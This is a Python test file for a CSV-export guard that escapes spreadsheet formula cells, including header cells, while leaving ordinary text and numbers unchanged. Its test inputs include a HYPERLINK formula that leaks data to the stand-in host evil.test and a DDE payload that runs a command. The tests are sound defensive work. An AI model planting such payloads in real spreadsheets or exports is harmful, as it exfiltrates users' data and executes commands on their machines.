"""Every CSV export opens in a spreadsheet as data: a typed formula stays text."""

from __future__ import annotations

import csv
import io

import pytest

from core.spreadsheet import csv_text, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak","Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    assert spreadsheet_safe(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Aalst", "Kinderopvang - De Rups", "e-mail@x.be", 3, -4, 2.5])
def test_ordinary_text_and_numbers_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_every_cell_of_an_export_goes_through_the_guard_header_included():
    text = csv_text(["=label", "value"], [["=1+1", -3], ["Gent", 7]], delimiter=";")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["'=label", "value"], ["'=1+1", "-3"], ["Gent", "7"]]
